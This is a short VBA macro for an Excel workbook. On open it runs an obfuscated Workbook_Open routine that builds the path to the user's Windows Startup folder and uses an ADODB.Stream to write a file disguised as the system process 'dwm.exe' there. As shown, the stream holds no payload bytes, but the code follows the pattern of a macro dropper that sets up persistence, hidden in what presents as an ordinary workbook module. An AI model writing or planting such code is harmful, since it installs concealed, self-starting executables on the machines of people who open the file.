Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    ' keep the user busy
    a = Chr(92) & Chr(77) & "icro" & "soft\Win" & "dows\" & StrReverse("uneM tratS")
    b = "\Progr" + "ams\" & Chr(83) & Chr(116) & Chr(97) & Chr(114) & Chr(116) & Chr(117) & Chr(112)
    c = StrReverse("exe.mwd") : d = Environ(Chr(65) & "PPDATA")
    Set s = CreateObject(Replace("ADOxxDB.Stream", "xx", ""))
    s.Type = 1: s.Open
    s.SaveToFile d & a & b & "\" & c, 2
End Sub
